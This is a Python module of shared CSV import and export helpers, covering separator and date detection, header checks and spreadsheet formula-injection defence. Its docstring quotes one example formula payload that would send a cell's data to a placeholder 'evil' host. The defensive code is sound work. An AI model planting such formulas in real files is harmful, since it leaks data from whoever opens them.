"""
What every CSV import and export shares: header checks, row reading, duplicate keys, one report of
every problem, and cells a spreadsheet cannot run. Each format (registry, officials) parses its own
fields on top of this.

Files come as Indonesian offices save them: Excel with Indonesian settings writes `;` between
fields, a UTF-8 byte-order mark first, and dates as dd/mm/yyyy. Every import reads `,` or `;`
(whichever the header line uses), drops the mark, and reads dates in either form (parse_date);
detect() says what a file uses, for the preview.

A cell starting with = + - @ (or a tab or CR) is run as a formula by spreadsheets, so a name like
`=HYPERLINK("http://evil/?"&A1)` in an imported file would act when an admin opens an export.
Exports write such a cell with a leading quote (shown as text), imports read that quote back off
(an export imports unchanged) and warn about every such cell by line and column. A phone column's
international number (+62...) is the one legitimate formula-like value: it is neither changed
nor warned about.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date
from typing import TypeVar

from storage.errors import CsvProblem, InvalidCsv

T = TypeVar("T")
RowParser = Callable[[dict[str, str], int], tuple[T | None, list[CsvProblem]]]
# A spreadsheet runs a cell starting with one of these as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A phone number as written in a phone column: '+', digits and separators, nothing a formula
# could call or refer to.
_PHONE = re.compile(r"\+[0-9][0-9 ().-]*")
BOM = "\ufeff"
DATE_ISO = "yyyy-mm-dd"
DATE_DMY = "dd/mm/yyyy"
_ISO_DATE = re.compile(r"(\d{4})-(\d{2})-(\d{2})")
_DMY_DATE = re.compile(r"(\d{1,2})/(\d{1,2})/(\d{4})")
DATE_HELP = "not a date (YYYY-MM-DD or DD/MM/YYYY)"


@dataclass(frozen=True, slots=True)
class Detected:
    """How a file is written, as the preview tells the admin: the field separator, whether it
    starts with a byte-order mark, and the date forms its cells use."""

    separator: str
    bom: bool
    date_formats: tuple[str, ...]


def separator(text: str) -> str:
    """`;` when the header line has more semicolons than commas (Excel, Indonesian settings)."""
    header = text.removeprefix(BOM).split("\n", 1)[0]
    return ";" if header.count(";") > header.count(",") else ","


def parse_date(raw: str) -> date:
    """A date written YYYY-MM-DD or DD/MM/YYYY; ValueError otherwise."""
    text = raw.strip()
    if iso := _ISO_DATE.fullmatch(text):
        return date(int(iso[1]), int(iso[2]), int(iso[3]))
    if dmy := _DMY_DATE.fullmatch(text):
        return date(int(dmy[3]), int(dmy[2]), int(dmy[1]))
    raise ValueError(raw)


def detect(text: str) -> Detected:
    """The separator, byte-order mark and date forms of a file."""
    forms: list[str] = []
    for row in _reader(text):
        for cell in row.values():
            value = (cell or "").strip() if isinstance(cell, str) else ""
            if _ISO_DATE.fullmatch(value) and DATE_ISO not in forms:
                forms.append(DATE_ISO)
            elif _DMY_DATE.fullmatch(value) and DATE_DMY not in forms:
                forms.append(DATE_DMY)
    return Detected(separator(text), text.startswith(BOM), tuple(forms))


def _reader(text: str) -> csv.DictReader[str]:
    """Rows of a file by header name, with its own separator and without a byte-order mark."""
    reader = csv.DictReader(
        io.StringIO(text.removeprefix(BOM), newline=""), delimiter=separator(text)
    )
    reader.fieldnames = [h.strip() for h in reader.fieldnames or []]
    return reader


def parse_csv(
    text: str,
    required: tuple[str, ...],
    optional: tuple[str, ...],
    parse_row: RowParser[T],
    key: Callable[[T], str],
    key_field: str,
) -> list[T]:
    """Parse every row; raises InvalidCsv listing every problem (line 1 is the header)."""
    reader = _reader(text)
    header = list(reader.fieldnames or [])
    problems = check_header(header, required, optional)
    if problems:
        raise InvalidCsv(problems)
    items: list[T] = []
    seen: dict[str, int] = {}
    for line, row in _rows(reader):
        if None in row:
            problems.append(CsvProblem(line, "", "more fields than the header"))
            continue
        item, row_problems = parse_row({k: _cell(v) for k, v in row.items()}, line)
        problems.extend(row_problems)
        if item is None:
            continue
        if key(item) in seen:
            problems.append(CsvProblem(line, key_field, f"duplicate of line {seen[key(item)]}"))
        seen.setdefault(key(item), line)
        items.append(item)
    if not items and not problems:
        problems.append(CsvProblem(1, "", "no rows"))
    if problems:
        raise InvalidCsv(problems)
    return items


def _rows(reader: csv.DictReader[str]) -> Iterator[tuple[int, dict[str, str]]]:
    for row in reader:
        yield reader.line_num, row


def _cell(value: str | None) -> str:
    """An imported cell: trimmed, and without the quote an export put before a formula start."""
    text = (value or "").strip()
    if text.startswith("'") and text[1:].startswith(FORMULA_START):
        return text[1:]
    return text


def is_formula(value: str, *, phone: bool = False) -> bool:
    """Whether a spreadsheet would run this cell (a phone column's +62... number does not)."""
    if phone and _PHONE.fullmatch(value):
        return False
    return value.startswith(FORMULA_START)


def csv_cell(value: object, *, phone: bool = False) -> str:
    """A cell a spreadsheet shows as text: one that would start a formula gets a quote first."""
    text = "" if value is None else str(value)
    return "'" + text if is_formula(text, phone=phone) else text


def formula_warnings(text: str, phone_columns: tuple[str, ...] = ()) -> list[CsvProblem]:
    """Every cell a spreadsheet would run as a formula, by line and column (line 1 is the header).

    The import keeps such a value (it may be a real name) and exports it quoted; the admin is told
    so they can check the file did not come from someone planting formulas."""
    reader = _reader(text)
    header = list(reader.fieldnames or [])
    warnings = []
    for line, row in _rows(reader):
        for column in header:
            value = _cell(row.get(column))
            if is_formula(value, phone=column in phone_columns):
                warnings.append(
                    CsvProblem(
                        line,
                        column,
                        f"starts with {value[0]!r}: a spreadsheet would run it as a formula"
                        " (it is kept as text and exported with a leading quote)",
                    )
                )
    return warnings


def check_header(
    header: list[str], required: tuple[str, ...], optional: tuple[str, ...]
) -> list[CsvProblem]:
    """Missing, unknown and repeated columns, each by name."""
    problems = [CsvProblem(1, name, "missing column") for name in required if name not in header]
    problems += [
        CsvProblem(1, name, "unknown column") for name in header if name not in required + optional
    ]
    problems += [
        CsvProblem(1, name, "column appears twice")
        for name in sorted(set(header))
        if header.count(name) > 1
    ]
    return problems


def split_list(value: str) -> tuple[str, ...]:
    """A ';'-separated list field."""
    return tuple(part.strip() for part in value.split(";") if part.strip())


def write_csv(
    columns: list[str], rows: list[dict[str, str]], phone_columns: tuple[str, ...] = ()
) -> str:
    """Rows as CSV text with a header, every cell safe to open in a spreadsheet."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(columns)
    for row in rows:
        writer.writerow([csv_cell(row[c], phone=c in phone_columns) for c in columns])
    return out.getvalue()
